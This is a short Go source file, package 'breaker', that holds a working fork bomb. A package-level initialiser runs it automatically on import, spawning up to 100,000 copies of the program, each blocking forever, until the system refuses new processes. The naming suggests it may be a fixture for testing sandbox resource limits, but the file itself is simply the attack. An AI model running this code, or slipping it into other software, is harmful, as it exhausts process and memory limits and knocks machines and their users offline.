package breaker

import (
	"os"
	"os/exec"
)

// Start processes until the system says no.
var _ = bomb()

func bomb() bool {
	if os.Getenv("HOSTILE_CHILD") != "" {
		select {}
	}
	for range 100000 {
		cmd := exec.Command(os.Args[0], "hostile-fork-marker")
		cmd.Env = []string{"HOSTILE_CHILD=1"}
		if cmd.Start() != nil {
			break
		}
	}
	return true
}
